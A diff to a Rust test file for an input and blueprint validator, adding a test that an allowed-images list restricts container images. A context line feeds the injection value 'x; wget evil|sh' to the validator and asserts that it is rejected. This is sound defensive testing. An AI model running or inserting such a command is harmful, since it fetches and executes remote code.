@@ -213,3 +213,16 @@ fn patterns_match_whole_values() {
     let err = inputs::check_value(spec, &InputValue::String("x; wget evil|sh".into())).unwrap_err();
     assert!(err.contains("must match the pattern [a-z0-9-]+"), "{err}");
 }
+
+#[test]
+fn a_list_of_allowed_images_bounds_an_image_input() {
+    let src = "id: demo\nname: Demo\nversion: 1\nallowed_images: [\"registry.local:5000/team-a/*\"]\ninputs:\n  image: { type: string, default: \"registry.local:5000/team-a/app:1\" }\ncomponents:\n  app:\n    image: \"${inputs.image}\"\n";
+    let bp = parse(src).unwrap();
+    assert!(bp.allowed_images.allows("registry.local:5000/team-a/app:2"));
+    assert!(!bp.allowed_images.allows("busybox"));
+    // Without the list, a free image input is refused; with it, an image the blueprint names
+    // itself must be on it; a bad pattern is refused at its entry.
+    refused(&src.replace("allowed_images: [\"registry.local:5000/team-a/*\"]\n", ""), 8, 13, "only when `image` is an enum");
+    refused(&src.replace("\"${inputs.image}\"", "busybox"), 9, 12, "not allowed here: this blueprint allows only");
+    refused(&src.replace("team-a/*\"]", "team-a/app:1\"]"), 4, 18, "not tags");
+}
